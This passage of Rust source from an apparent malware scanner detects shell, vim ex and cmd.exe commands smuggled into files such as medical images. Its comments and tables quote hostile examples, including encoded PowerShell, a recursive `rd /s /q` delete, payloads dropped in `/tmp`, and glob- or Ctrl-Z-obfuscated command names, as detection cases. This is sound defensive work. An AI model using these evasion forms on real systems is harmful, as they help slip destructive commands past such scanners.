/// (read its output), `:w !cmd` (write to it), `:e !cmd` (ed), and their abbreviations
/// (`:rea !cmd`, `:wri !cmd`: vim -es runs them). `:silent !cmd` and the other command
/// modifiers are [`EX_MODIFIERS`].
const EX_BANG_COMMANDS: [&[u8]; 10] = [
    b"r", b"re", b"rea", b"read", b"w", b"wr", b"wri", b"writ", b"write", b"e",
];

/// Vim's command modifiers, which run the command after them (`:silent !cmd`,
/// `:noautocmd sil keepalt r !cmd`, `:3verbose !cmd`, `:filter /x/ !cmd`), and the
/// commands that run the rest of their line as a command (`:g/^/!cmd`, `:windo !cmd`),
/// each with the shortest abbreviation vim takes (`:help :command-modifiers`). Issue 10
/// (session 13): vim -es ran `keepalt !sh …`, `noa sil keepj !sh …`, `vert !sh …`, and
/// only `silent` was known. `:sandbox` is left out: vim refuses `:!` under it.
/// `:folddoopen` and `:folddoclosed` run the command after them on lines too (vim -es ran
/// `foldd !sh …` and `folddoopen norm! !!sh …`; review s15-r10).
const EX_MODIFIERS: [(&[u8], usize); 37] = [
    (b"aboveleft", 3),
    (b"belowright", 3),
    (b"botright", 2),
    (b"browse", 3),
    (b"confirm", 4),
    (b"filter", 4),
    (b"hide", 3),
    (b"horizontal", 3),
    (b"keepalt", 5),
    (b"keepjumps", 5),
    (b"keepmarks", 3),
    (b"keeppatterns", 5),
    (b"leftabove", 5),
    (b"legacy", 3),
    (b"lockmarks", 3),
    (b"noautocmd", 3),
    (b"noswapfile", 3),
    (b"rightbelow", 6),
    (b"silent", 3),
    (b"tab", 3),
    (b"topleft", 2),
    (b"unsilent", 3),
    (b"verbose", 4),
    (b"vertical", 4),
    (b"vim9cmd", 4),
    (b"global", 1),
    (b"vglobal", 1),
    (b"windo", 5),
    (b"bufdo", 5),
    (b"tabdo", 5),
    (b"argdo", 5),
    (b"cdo", 3),
    (b"cfdo", 4),
    (b"ldo", 3),
    (b"lfdo", 4),
    (b"folddoopen", 5),
    (b"folddoclosed", 7),
];

/// The longest word of [`EX_MODIFIERS`] and [`EX_BANG_COMMANDS`], with a `!` after it.
const LONGEST_EX_WORD: usize = 13;

/// How many command modifiers (with their counts and patterns) the walk back from a `!`
/// goes over before it takes the `!` for an escape without reading further: vim takes
/// any number, and a line of thousands of `sil!` would otherwise be walked once per
/// `!` (quadratic). Past it the escape is reported (more, never less).
pub const MAX_EX_MODIFIERS: usize = 32;

/// Whether `word` (lower-case letters, perhaps a `!` after them) names one of
/// [`EX_MODIFIERS`] as vim abbreviates it.
fn is_ex_modifier(word: &[u8]) -> bool {
    let word = word.strip_suffix(b"!").unwrap_or(word);
    !word.is_empty()
        && word
            .iter()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit())
        && EX_MODIFIERS
            .iter()
            .any(|(name, shortest)| word.len() >= *shortest && name.starts_with(word))
}

/// Whether the `!` at `bang` starts a shell escape that ex runs: `Some(true)` at a line's
/// start (after blanks and `:`), `Some(false)` after a `:` or an ex command
/// ([`ex_command_before`]), `None` for a `!` that is no escape.
fn ex_escape(bytes: &[u8], bang: usize) -> Option<bool> {
    #[cfg(test)]
    tests::LOOKED_AT.with(|n| n.set(n.get() + 1));
    let before = &bytes[..bang];
    let lead = before
        .iter()
        .rev()
        .take_while(|b| matches!(b, b' ' | b'\t' | b':'))
        .count();
    let line_start = bang - lead;
    let at_line_start = line_start == 0 || bytes[line_start - 1] == b'\n';
    let after_colon = before.last() == Some(&b':');
    (at_line_start || after_colon || ex_command_before(before)).then_some(at_line_start)
}

/// The lowest byte [`EX_BEFORE_BANG`] holds: a `!` after a lower byte starts no
/// escape (the table's own answer, computed from it).
const LOWEST_EX_BEFORE_BANG: u8 = pairs::lowest(&EX_BEFORE_BANG);

/// The bytes that can come just before a `!` that [`find_ex_command`] looks at: what the
/// walks back from it read (blanks and `:` before an escape at a line start or after a
/// `:`, a line end, the letters and `!` of an ex command, a range's characters, the `|`
/// that ends the previous command). Any other byte stops every walk at once: no escape.
const EX_BEFORE_BANG: [bool; 256] = {
    let mut table = [false; 256];
    let mut b = 0;
    while b < 256 {
        let c = b as u8;
        table[b] = c.is_ascii_lowercase()
            || c.is_ascii_digit()
            || matches!(
                c,
                b' ' | b'\t'
                    | b':'
                    | b'\n'
                    | b'!'
                    | b'|'
                    | b','
                    | b';'
                    | b'.'
                    | b'$'
                    | b'%'
                    | b'+'
                    | b'-'
                    | b'\''
                    // The ends of the other addresses (`ex_range_start`): an uppercase or
                    // special mark (`'A`, `'<`, `'>`, ...), a pattern (`/x/`, `?x?`, `\&`)
                    // and the visual area (`*`).
                    | b'A'
                    ..=b'Z'
                        | b'<'
                        | b'>'
                        | b'['
                        | b']'
                        | b'"'
                        | b'^'
                        | b'`'
                        | b'/'
                        | b'?'
                        | b'&'
                        | b'*'
            );
        b += 1;
    }
    table
};

/// How far back a search pattern address (`/pattern/`, `?pattern?`) is followed to its
/// opening delimiter: a longer one is not taken for an address (no escape reported).
pub const MAX_EX_PATTERN_BYTES: usize = 256;

/// A mark's name after `'`: letters, digits and the special marks vim knows.
fn is_mark(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b"<>[]\"^.`'".contains(&b)
}

/// Where the range ending at `end` of `before` starts, read backwards: line numbers and
/// their separators and offsets (`1,2`, `.,$`, `%`, `;+1`), marks (`'a`, `'A`, `'<`),
/// search patterns (`/x/`, `?x?`, the opening delimiter at most
/// [`MAX_EX_PATTERN_BYTES`] before the closing one), the last pattern
/// (`\/`, `\?`, `\&`) and the visual area (`*`). Review s9-r10: `/x/!cmd`, `?x?!cmd`,
/// `'a!cmd` and `'a,'b!cmd` ran in `vim -es` after an appended line and were not found.
/// Each token consumed is walked once, so the walk stays linear.
fn ex_range_start(before: &[u8], mut end: usize) -> usize {
    while end > 0 {
        let b = before[end - 1];
        let prev = end.checked_sub(2).map(|at| before[at]);
        let mark = prev == Some(b'\'') && is_mark(b);
        let last_pattern = prev == Some(b'\\') && matches!(b, b'/' | b'?' | b'&');
        if mark || last_pattern {
            end -= 2;
        } else if b.is_ascii_digit()
            || matches!(
                b,
                b',' | b';' | b'.' | b'$' | b'%' | b'+' | b'-' | b'*' | b'\''
            )
        {
            end -= 1;
        } else if matches!(b, b'/' | b'?') {
            // Back to the unescaped opening delimiter, on the same line.
            let body = &before[end.saturating_sub(1 + MAX_EX_PATTERN_BYTES)..end - 1];
            let open = body
                .iter()
                .enumerate()
                .rev()
                .find(|&(i, &c)| c == b'\n' || (c == b && (i == 0 || body[i - 1] != b'\\')));
            match open {
                Some((i, &c)) if c == b => end = end - 1 - body.len() + i,
                _ => break,
            }
        } else {
            break;
        }
    }
    end
}

/// Whether the text before a `!` makes it a shell escape of the ex command it ends
/// (review s6-r10: vim ran `r !cmd`, `w !cmd`, `silent !cmd`, `1,1!cmd`, `%!cmd` and
/// `set nocp|!cmd`, and only a bare `!` was looked for). Read backwards from the `!`:
/// blanks, one command of [`EX_BANG_COMMANDS`] or a modifier, a range (`1,2`, `%`,
/// `.,$`, `'a`), then any number of modifiers with their counts and patterns
/// (`noa sil 3verb filter /x/`, issue 10, session 13), then blanks or colons back to a
/// line start or a `|` that ends the previous command. The walk stops at any other
/// byte, and after [`MAX_EX_MODIFIERS`] modifiers (then the `!` counts as an escape), so
/// the work per `!` is bounded.
fn ex_command_before(before: &[u8]) -> bool {
    let blank = |b: &u8| matches!(b, b' ' | b'\t');
    let mut end = before.len();
    for round in 0..=MAX_EX_MODIFIERS {
        end -= before[..end].iter().rev().take_while(|b| blank(b)).count();
        // A `!` ends a word (`sil!`) and never sits inside one: `sil!keepa !cmd` is two
        // modifiers (vim -es ran it; review s14-r01).
        let bang = usize::from(end > 0 && before[end - 1] == b'!');
        let word_len = bang
            + before[..end - bang]
                .iter()
                .rev()
                .take(LONGEST_EX_WORD)
                .take_while(|b| b.is_ascii_lowercase())
                .count();
        let mut word_start = end - word_len;
        // `vim9cmd` (`vim9`) is the one modifier with a digit: vim -es ran `vim9cmd !sh
        // …` and `vim9 norm! !!sh …` (review s15-r10).
        if before[..word_start].ends_with(b"vim9") {
            word_start -= 4;
        }
        let mut word_whole = word_start == 0 || !before[word_start - 1].is_ascii_alphabetic();
        if word_len > 0 && word_start > 0 && before[word_start - 1] == b'\'' {
            // `'a`: a mark (an address), and the letters after it are the command.
            word_start += 1;
            word_whole = true;
        }
        let word = &before[word_start..end];
        let bang_command = round == 0 && EX_BANG_COMMANDS.contains(&word);
        let had_word = !word.is_empty() && word_whole && (bang_command || is_ex_modifier(word));
        if !word.is_empty() && !had_word {
            return false;
        }
        end = word_start;
        let range_len = end - ex_range_start(before, end);
        end -= range_len;
        end -= before[..end]
            .iter()
            .rev()
            .take_while(|b| matches!(b, b' ' | b'\t' | b':'))
            .count();
        // A bare `!` at a line start is the caller's own case; after a `|` it is this one.
        let after_bar = end > 0 && before[end - 1] == b'|';
        if !had_word && range_len == 0 {
            return round == 0 && after_bar;
        }
        if end == 0 || before[end - 1] == b'\n' || after_bar {
            return true;
        }
    }
    true
}

/// Where a program a shell runs by path is dropped: the current directory, the
/// temporary and home directories an unprivileged payload can write to.
const DROP_ROOTS: [&[u8]; 9] = [
    b"./",
    b"../",
    b"/tmp/",
    b"/var/tmp/",
    b"/dev/shm/",
    b"/home/",
    b"/root/",
    b"/opt/",
    b"/run/",
];

/// Directories whose files are programs (`/bin/sh`, `/usr/local/sbin/x`,
/// `/usr/lib/apt/apt-helper` is not, `/opt/pacs/bin/export` is).
const PROGRAM_DIRS: [&[u8]; 3] = [b"/bin/", b"/sbin/", b"/libexec/"];

/// The longest name in [`STRONG`] and [`WEAK`]: a longer word is none of
/// them, without comparing it to each (most words of a text are no command).
const LONGEST_NAME: usize = 10;

/// Whether `word` is one of `names`: compared by length and first byte before the bytes
/// (a call to `memcmp` per name of the same length was a tenth of the time of a file of
/// short commands).
/// A word not starting with a lower-case letter is none of them, without a look at
/// each (every name does, checked at build time below; review r26-screen: 64 MiB of `^`+CRLF, 22 million
/// one-word commands, took 52 s of CPU in a debug build, most of it here).
fn listed(names: &[&[u8]], word: &[u8]) -> bool {
    if word.len() > LONGEST_NAME || !word.first().is_some_and(u8::is_ascii_lowercase) {
        return false;
    }
    #[cfg(test)]
    tests::LISTS_SEARCHED.with(|n| n.set(n.get() + 1));
    names
        .iter()
        .any(|name| name.len() == word.len() && name.first() == word.first() && *name == word)
}

// Every name of STRONG and WEAK starts with a lower-case letter, as `listed`
// assumes: checked when the crate is built (an unnamed constant is always evaluated).
const _: () = {
    let lists: [&[&[u8]]; 2] = [&STRONG, &WEAK];
    let mut l = 0;
    while l < lists.len() {
        let mut i = 0;
        while i < lists[l].len() {
            assert!(lists[l][i][0].is_ascii_lowercase());
            i += 1;
        }
        l += 1;
    }
};

fn is_strong(word: &[u8]) -> bool {
    if listed(&STRONG, word) {
        return true;
    }
    // Paths start with `/` or `.` (`./x`, `../x`, the drop roots and program dirs).
    if let Some(in_home) = home_path(word) {
        return is_strong(&in_home);
    }
    matches!(word.first(), Some(b'/' | b'.'))
        && (is_program_path(word) || names_by_pattern(word) || pattern_names_a_program_path(word))
}

/// `word` with the home directory its leading `~` or `~user` names written out (a
/// directory of [`DROP_ROOTS`]): dash expands it before it runs the command, so `~/x`
/// runs the file `x` dropped in the home directory (review r24-screen: dash ran it, and
/// the file was clean). `None` for a word that does not start so.
fn home_path(word: &[u8]) -> Option<Vec<u8>> {
    // A configuration file there is weak ([`names_home_configuration_file`]).
    let (name, in_home) = home_file(word)?;
    (!crate::sh::is_configuration_name(name)).then(|| [&b"/home/user"[..], in_home].concat())
}

/// The file name a word starting with `~` or `~user` names in the home directory, and
/// its path from there (`/sub/x`). `~/` alone is the directory ("Permission denied").
fn home_file(word: &[u8]) -> Option<(&[u8], &[u8])> {
    let rest = word.strip_prefix(b"~")?;
    let slash = memchr::memchr(b'/', rest)?;
    let user = &rest[..slash];
    let name = &word[memchr::memrchr(b'/', word)? + 1..];
    let user_name = user
        .iter()
        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'));
    (user_name && !name.is_empty()).then_some((name, &rest[slash..]))
}

/// Whether `word` names a configuration file in the home directory (`~/.x`, `~u/_x`,
/// [`crate::sh::is_configuration_name`]): dash runs it as any program (review
/// r25-screen: `~/.x go; :` ran a planted `.x` and was clean), but manuals list such
/// files on lines of their own (`~/.vimrc ~` in vim's usr_05.txt), so it is a weak
/// name: a command with shell syntax and an operand on its line.
fn names_home_configuration_file(word: &[u8]) -> bool {
    home_file(word).is_some_and(|(name, _)| {
        crate::sh::is_configuration_name(name) && name.iter().any(u8::is_ascii_alphanumeric)
    })
}

/// A weak command name: one of [`WEAK`], or a configuration file in the home directory.
fn is_weak(word: &[u8]) -> bool {
    listed(&WEAK, word) || names_home_configuration_file(word)
}

/// The directories of [`PROGRAM_DIRS`], as one path component each.
const PROGRAM_DIR_NAMES: [&[u8]; 3] = [b"bin", b"sbin", b"libexec"];

/// The rooted [`DROP_ROOTS`], as their leading path components.
const DROP_ROOT_COMPONENTS: [&[&[u8]]; 7] = [
    &[b"tmp"],
    &[b"var", b"tmp"],
    &[b"dev", b"shm"],
    &[b"home"],
    &[b"root"],
    &[b"opt"],
    &[b"run"],
];

/// Whether `word`, a path with a pattern (`?`, `*`, `[…]`) in it, can name a program
/// path as [`is_program_path`] judges one written out: a directory component can match
/// `bin`, `sbin` or `libexec`, or its leading components a drop root, and its last
/// component names a file. dash expands the pattern before it runs the command, so
/// `/???/t?uch x` runs `/bin/touch` and `/tmp/ev?l` the payload dropped as `/tmp/evil`
/// (review r24-screen: dash ran both, and only patterns matching a name of [`STRONG`]
/// were looked at). A name of stars alone (`/*`, `/**/*` of C comments and globs in
/// prose) or ending in `/` names no file of an attacker's.
fn pattern_names_a_program_path(word: &[u8]) -> bool {
    let is_pattern = |b: &u8| matches!(b, b'?' | b'*' | b'[');
    if !word.iter().any(is_pattern) || !word.iter().all(u8::is_ascii_graphic) {
        return false;
    }
    let Some(slash) = memchr::memrchr(b'/', word) else {
        return false;
    };
    let name = &word[slash + 1..];
    if name.iter().all(|&b| b == b'*') {
        return false;
    }
    if word.starts_with(b"./") || word.starts_with(b"../") {
        return true;
    }
    let Some(directory) = word[..slash].strip_prefix(b"/") else {
        return false;
    };
    let components: Vec<&[u8]> = directory.split(|&b| b == b'/').collect();
    let in_program_dir = components.iter().any(|component| {
        PROGRAM_DIR_NAMES
            .iter()
            .any(|dir| pattern_matches(component, dir))
    });
    let dropped = DROP_ROOT_COMPONENTS.iter().any(|root| {
        components.len() >= root.len()
            && root
                .iter()
                .zip(&components)
                .all(|(root, component)| pattern_matches(component, root))
    });
    in_program_dir || dropped
}

/// Whether `word` is a path whose last component is a pattern (`?`, `*`, `[…]`) that a
/// name of [`STRONG`] matches: dash expands a command name by pathname expansion before
/// it runs it, so `/bin/d?sh`, `/???/???/pyth?n3` and `/usr/bin/pyth[o]n3` run dash and
/// python3 (review r23-screen: dash ran each, and the file was clean). The component
/// needs a letter or digit of its own: a C comment's `/*` starting a line names every
/// entry of `/`, a directory first, and runs nothing.
fn names_by_pattern(word: &[u8]) -> bool {
    let Some(slash) = memchr::memrchr(b'/', word) else {
        return false;
    };
    let pattern = &word[slash + 1..];
    word.iter().any(|b| matches!(b, b'?' | b'*' | b'['))
        && pattern.iter().any(u8::is_ascii_alphanumeric)
        && STRONG.iter().any(|name| pattern_matches(pattern, name))
}

/// One element of a shell pattern.
#[derive(Clone, Copy, PartialEq, Eq)]
enum PatternItem<'p> {
    /// `*`: any run of characters.
    Star,
    /// `?`: any one character.
    Any,
    /// `[…]`: one character of the set (or, negated with `!`/`^`, not of it).
    Set(&'p [u8], bool),
    /// Itself.
    Byte(u8),
}

impl PatternItem<'_> {
    fn matches(self, byte: u8) -> bool {
        match self {
            PatternItem::Star | PatternItem::Any => true,
            PatternItem::Byte(b) => b == byte,
            PatternItem::Set(members, negated) => {
                let mut found = false;
                let mut i = 0;
                while i < members.len() {
                    if let Some((class, end)) = class_at(members, i) {
                        found |= class_matches(class, byte);
                        i = end;
                    } else if members.get(i + 1) == Some(&b'-') && i + 2 < members.len() {
                        found |= (members[i]..=members[i + 2]).contains(&byte);
                        i += 3;
                    } else {
                        found |= members[i] == byte;
                        i += 1;
                    }
                }
                found != negated
            }
        }
    }
}

/// The character class (`alpha` of `[:alpha:]`) at `at` of a bracket expression's
/// members, and where it ends.
fn class_at(members: &[u8], at: usize) -> Option<(&[u8], usize)> {
    let inner = members.get(at..)?.strip_prefix(b"[:")?;
    let close = memchr::memmem::find(inner, b":]")?;
    Some((&inner[..close], at + 2 + close + 2))
}

/// Whether `byte` is of the character class `class` in the C locale; an unknown class
/// matches nothing, as in dash.
fn class_matches(class: &[u8], byte: u8) -> bool {
    match class {
        b"alpha" => byte.is_ascii_alphabetic(),
        b"digit" => byte.is_ascii_digit(),
        b"alnum" => byte.is_ascii_alphanumeric(),
        b"upper" => byte.is_ascii_uppercase(),
        b"lower" => byte.is_ascii_lowercase(),
        b"xdigit" => byte.is_ascii_hexdigit(),
        b"punct" => byte.is_ascii_punctuation(),
        b"graph" => byte.is_ascii_graphic(),
        b"print" => byte.is_ascii_graphic() || byte == b' ',
        b"space" => byte.is_ascii_whitespace() || byte == 0x0B,
        b"blank" => matches!(byte, b' ' | b'\t'),
        b"cntrl" => byte.is_ascii_control(),
        _ => false,
    }
}

/// Where the bracket expression whose members start at `from` of `pattern` closes: the
/// first `]` after its first member that is not inside a class (`[[:alpha:]]` closes
/// at its last byte; review r24-screen: `/[[:alpha:]]in/touch` ran `/bin/touch`, and
/// the set was read as closed at the class's `]`). `None`: no `]`, the `[` is itself.
fn set_end(pattern: &[u8], from: usize) -> Option<usize> {
    let mut at = from + 1;
    if let Some((_, end)) = class_at(pattern, from) {
        at = end;
    }
    while let Some(&byte) = pattern.get(at) {
        if byte == b']' {
            return Some(at);
        }
        at = class_at(pattern, at).map_or(at + 1, |(_, end)| end);
    }
    None
}

/// Whether `name` matches the shell pattern `pattern` (POSIX XCU 2.13: `?`, `*`,
/// bracket expressions with ranges and `!`/`^`; a `[` without its `]` is itself). The
/// pattern is the attacker's: matched with one backtracking point (the last `*`), in
/// time proportional to the product of the lengths, never exponential in the stars.
fn pattern_matches(pattern: &[u8], name: &[u8]) -> bool {
    let mut items = Vec::with_capacity(pattern.len());
    let mut i = 0;
    while let Some(&byte) = pattern.get(i) {
        i += 1;
        items.push(match byte {
            b'*' => PatternItem::Star,
            b'?' => PatternItem::Any,
            b'[' => {
                let negated = matches!(pattern.get(i), Some(b'!' | b'^'));
                let from = i + usize::from(negated);
                // A `]` first in the set is a member; the next one outside a class
                // (`[:alpha:]`) closes it.
                match set_end(pattern, from) {
                    Some(close) => {
                        i = close + 1;
                        PatternItem::Set(&pattern[from..close], negated)
                    }
                    None => PatternItem::Byte(b'['),
                }
            }
            _ => PatternItem::Byte(byte),
        });
    }
    let (mut p, mut n) = (0, 0);
    let mut star: Option<(usize, usize)> = None;
    while n < name.len() {
        match items.get(p) {
            Some(PatternItem::Star) => {
                star = Some((p, n));
                p += 1;
            }
            Some(item) if item.matches(name[n]) => {
                p += 1;
                n += 1;
            }
            _ => match star {
                // The last `*` takes one more character, and the rest is tried again.
                Some((at, taken)) => {
                    star = Some((at, taken + 1));
                    p = at + 1;
                    n = taken + 1;
                }
                None => return false,
            },
        }
    }
    items[p..].iter().all(|item| *item == PatternItem::Star)
}

/// A path to a program: `/bin/sh`, `/tmp/x`, `./payload`, all printable. A path that
/// names data (`/usr/share/fonts`, `/var/log/syslog`, `/usr/local/lib` in an `ld.so.conf`
/// or a README) is no program: `sh` would only say "Permission denied" or "not found".
/// A line of base64 (a PEM key, an embedded JPEG's `/9j/4AAQ…`) starts with `/` too, and
/// is no command; nor is a path in a program directory that ends a sentence (`… in
/// /usr/local/sbin/foo.`). Where a payload is dropped, a trailing `.` is part of the
/// name (`./x.` runs the file `x.`; review s5 walk-around), so there it counts.
fn is_program_path(word: &[u8]) -> bool {
    let printable = word
        .iter()
        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'/' | b'.' | b'_' | b'-'));
    let in_program_dir = PROGRAM_DIRS
        .iter()
        .any(|dir| word.windows(dir.len()).any(|w| w == *dir));
    let dropped = DROP_ROOTS.iter().any(|root| word.starts_with(root));
    word.len() > 2
        && printable
        && (dropped || (word[0] == b'/' && in_program_dir))
        && word[1..].iter().any(u8::is_ascii_alphanumeric)
        && (dropped || !word.ends_with(b"."))
        && (dropped || !word.ends_with(b"."))
}

fn shell_command(bytes: &[u8], at: usize, effect: Option<sh::Effect>) -> Command {
    // A signal's command says what the signal does (review rv46-screen item 3).
    let effect = effect.map_or(String::new(), |effect| format!("; {effect}"));
    Command {
        offset: at,
        interpreter: "shell",
        severity: Severity::Alert,
        kind: FindingKind::ActiveContent,
        detail: format!(
            "a shell command (\"{}\") that sh runs when the file is executed or given to sh: nothing before it breaks the parse{effect}",
            line_excerpt(bytes, at)
        ),
    }
}

/// The first command that runs a program this search knows ([`batch_program`]), as
/// `cmd.exe` would run it: at
/// the start of a line, or after one of the operators that start another command on the
/// same line (`&`, `&&`, `||`, `|`): `echo hi & powershell -enc ...` runs PowerShell
/// whatever the first command was (the bytes of a DICOM header before it are a command
/// that fails, and cmd.exe goes on).
pub fn find_batch_command(bytes: &[u8]) -> Option<Command> {
    find_batch_command_until(bytes, &Clock::default())
}

/// [`find_batch_command`] that stops at `clock`'s deadline: a warning naming it.
pub fn find_batch_command_until(bytes: &[u8], clock: &Clock) -> Option<Command> {
    find_batch_command_within(bytes, &[], clock)
}

/// [`find_batch_command_until`] in a file whose `binary` ranges (sorted, apart) hold
/// binary values: Pixel Data, its fragments, values of the VRs of bytes. There, a bare
/// name of a runnable file alone on its line (`\nj.CPL|`, the one rule that chance
/// bytes of compressed pixel data meet, ~3.5e-6 a window of 64 KiB: ARCHITECTURE
/// invariant 11) is a warning of `active-content`, not an alert, and the search goes on:
/// a command further on is the alert it is. In the preamble and text values, where no
/// chance bytes live, it is an alert.
pub fn find_batch_command_within(
    bytes: &[u8],
    binary: &[Range<usize>],
    clock: &Clock,
) -> Option<Command> {
    // cmd.exe runs a batch file from its first line: the file's start is a line's start
    // (review r26-screen: `powershell -c …` on the first line was no command). A later
    // window of a file starts anywhere in a line, and is read from its separators only.
    // A block the first line opens holds the lines after it.
    let mut blocks = Blocks::default();
    let binary = Binary(binary);
    // One reading of the file's `set` commands (and one budget of expansion) for the
    // first line and the search after it.
    let mut variables = Variables::default();
    let first = batch_command_at(bytes, 0, &mut variables, &mut blocks, binary);
    if first.as_ref().is_some_and(|found| !by_chance(found)) {
        return first;
    }
    // A command by chance on the first line stays the one reported unless the search
    // finds one that is not.
    match (first, search_batch(bytes, variables, blocks, clock, binary)) {
        (Some(first), Some(later)) if by_chance(&later) => Some(first),
        (first, later) => later.or(first),
    }
}

/// Whether `found` is a command the bytes may hold by chance: a bare name alone on its
/// line in binary values, reported as a warning of `active-content` (a limit reached
/// is a warning of `not-inspected`, and ends the search).
fn by_chance(found: &Command) -> bool {
    found.severity == Severity::Warning && found.kind == FindingKind::ActiveContent
}

/// The ranges of a file that hold binary values (see [`find_batch_command_within`]),
/// sorted and apart.
#[derive(Clone, Copy)]
struct Binary<'r>(&'r [Range<usize>]);

impl Binary<'_> {
    fn holds(self, offset: usize) -> bool {
        let after = self.0.partition_point(|range| range.end <= offset);
        self.0
            .get(after)
            .is_some_and(|range| range.contains(&offset))
    }
}

/// [`find_batch_command`] in a later window of a file read in windows, with the `set`
/// commands of the windows before it.
pub(crate) fn find_batch_command_carried(
    bytes: &[u8],
    carried: &crate::budget::Carried,
    clock: &Clock,
) -> Option<Command> {
    search_batch(
        bytes,
        Variables {
            inherited: carried.batch_sets.clone(),
            inherited_full: carried.batch_full,
            ..Variables::default()
        },
        Blocks::default(),
        clock,
        Binary(&[]),
    )
}

/// Adds the `set` commands of `window` to those carried to later windows.
pub(crate) fn carry_batch_sets(window: &[u8], upto: usize, carried: &mut crate::budget::Carried) {
    if carried.batch_full {
        return;
    }
    let mut variables = Variables::default();
    variables.read(window);
    for (_, name, value) in variables.set.into_iter().filter(|(at, _, _)| *at < upto) {
        if carried.batch_sets.len() >= MAX_BATCH_VARIABLES {
            carried.batch_full = true;
            return;
        }
        carried.batch_sets.push((name, value));
    }
    carried.batch_full |= variables.full;
}

fn search_batch(
    bytes: &[u8],
    mut variables: Variables,
    mut blocks: Blocks,
    clock: &Clock,
    binary: Binary<'_>,
) -> Option<Command> {
    // cmd.exe reads a Ctrl-Z (0x1A) as a line feed when it reads a line to run: a line
    // can start after one as after `\n` (searched second, as since r25: the first
    // command found is the one reported).
    // Pixel data holds a separator every ~30-80 bytes, most followed by a byte below
    // any that starts a command (a CT value's high byte): `pairs` skips those 64 bytes
    // at a time, where `memchr` stopped at each.
    let may_start_command = |b: u8| b >= LOWEST_BATCH_COMMAND_START;
    let separator = |b: u8| matches!(b, b'\n' | b'&' | b'|');
    // The first command by chance, kept while the search goes on for one that is not;
    // the first view a bound cut short, kept the same way: an alert after it is never
    // left unsaid (review rv39: one line of 40 `2>&1` hid the `powershell -enc` and
    // `rd /s /q` lines after it behind a warning, and `--quarantine` kept no copy).
    let mut chance = None;
    let mut unread = None;
    // A file extracted from a binary value starts with the value: its first line is
    // one cmd.exe runs, as if a separator stood before it (issue 10, session 34:
    // `rd C:\PACS /s /q` first in a private OB value was missed). One more candidate
    // a value, against ~1,024 separators a window: no chance worth counting.
    // Such a file ends where its value ends: the value's first line is read to the
    // value's end at most (review r35-screen: read on into the values after it, each of
    // ~80,000 tiny values a line of up to CMD_LINE_LIMIT bytes copied without its
    // carriage returns, a 1 MB file took 28 times as long).
    let value_starts = binary
        .0
        .iter()
        .filter_map(|range| Some((range.start.checked_sub(1)?, range.end)));
    let whole_file = |separator| (separator, bytes.len());
    let found = pairs::positions(bytes, Beside::After, separator, may_start_command)
        .map(whole_file)
        .chain(
            pairs::positions(bytes, Beside::After, |b| b == CTRL_Z, may_start_command)
                .map(whole_file),
        )
        .chain(value_starts)
        // Most are followed by a byte no command starts with, turned away here in one
        // look-up, and half of the rest by a byte past ASCII that starts no runnable
        // name (a 20% longer search of random pixel data when they went on to
        // `batch_command_at`).
        .filter(|&(separator, _)| {
            let line = bytes.get(separator + 1..).unwrap_or_default();
            line.first().is_some_and(|&b| {
                BATCH_COMMAND_START[usize::from(b)]
                    && (b < 0x80
                        || b == 0xFF
                        || first_word_is_runnable(line)
                        // A CR cmd.exe deletes may split the name (`\x82vil.e<CR>xe`).
                        || line.get(name_end(line, false)) == Some(&b'\r'))
            })
        })
        .find_map(|(separator, end)| {
            let bytes = bytes.get(..end).unwrap_or(bytes);
            if clock.expired() {
                return Some(Command {
                    offset: separator,
                    interpreter: "batch",
                    severity: Severity::Warning,
                    kind: FindingKind::NotInspected,
                    detail: format!(
                        "batch command lines read up to here when {}: the rest were not checked",
                        clock.reached()
                    ),
                });
            }
            match batch_command_at(bytes, separator + 1, &mut variables, &mut blocks, binary) {
                Some(found) if by_chance(&found) => {
                    chance.get_or_insert(found);
                    None
                }
                Some(found) if found.kind == FindingKind::NotInspected => {
                    unread.get_or_insert(found);
                    None
                }
                found => found,
            }
        });
    found.or(unread).or(chance)
}

/// The `(` blocks cmd.exe has open where a command starts. A `(` at a command's start
/// opens one, and cmd.exe reads the lines after it as the block's until the `)` that
/// closes it (the first outside quotes and not escaped by `^`); a `)` ends a program's
/// name only inside a block (issue 10, review r30-falsepos: any `)` ended one, so
/// `\nzE\xdb-nUR.JsE)` in compressed pixel data was a command). Read forward over the
/// bytes once (reset when a search starts over from an earlier byte), and only while a
/// block is open: with none, nothing is read.
#[derive(Default)]
struct Blocks {
    depth: usize,
    scanned: usize,
    quoted: bool,
}

impl Blocks {
    /// Whether a block is open at the program of the command starting at `command`,
    /// whose program starts at `program` (past what [`program_start`] skips: the `(` of
    /// `(calc.exe)`, `if 1==1 (calc.exe)`, `for %%a in (1) do (calc.exe)`).
    fn open_at(&mut self, bytes: &[u8], command: usize, program: usize) -> bool {
        self.advance(bytes, command);
        let prefix = bytes.get(command..program).unwrap_or_default();
        let opens = memchr::memchr_iter(b'(', prefix).count();
        let closes = memchr::memchr_iter(b')', prefix).count();
        if opens > closes {
            self.depth += opens - closes;
            self.quoted = false;
        }
        self.scanned = self.scanned.max(program);
        self.depth > 0
    }

    /// Reads the bytes from where it stopped to `to`, closing a block at each `)`
    /// cmd.exe reads as closing one.
    fn advance(&mut self, bytes: &[u8], to: usize) {
        if to < self.scanned {
            *self = Blocks::default();
        }
        let to = to.min(bytes.len());
        let from = self.scanned.min(to);
        self.scanned = to;
        if self.depth == 0 {
            // No block to close: the quotes before the next `(` do not matter.
            self.quoted = false;
            return;
        }
        for at in memchr::memchr3_iter(b')', b'"', b'\n', &bytes[from..to]) {
            let at = from + at;
            match bytes[at] {
                b'\n' => self.quoted = false,
                b'"' => self.quoted = !self.quoted,
                _ if !self.quoted && (at == 0 || bytes[at - 1] != b'^') => {
                    self.depth -= 1;
                    if self.depth == 0 {
                        self.scanned = at + 1;
                        return;
                    }
                }
                _ => {}
            }
        }
    }
}

/// Ctrl-Z, which cmd.exe reads as a line feed when it reads a batch file's lines.
const CTRL_Z: u8 = 0x1A;

/// Whether cmd.exe reads `b` as a line feed: `\n`, or a Ctrl-Z. A caret before either
/// continues the line (review rv39: `rd C:\PACS ^<Ctrl-Z>/s /q` and
/// `p^<Ctrl-Z>owershell -enc …` were clean where their `^<LF>` forms alert).
fn is_line_feed(b: u8) -> bool {
    b == b'\n' || b == CTRL_Z
}

/// Whether `b` ends a command to cmd.exe: the line's end (a line feed, or a Ctrl-Z,
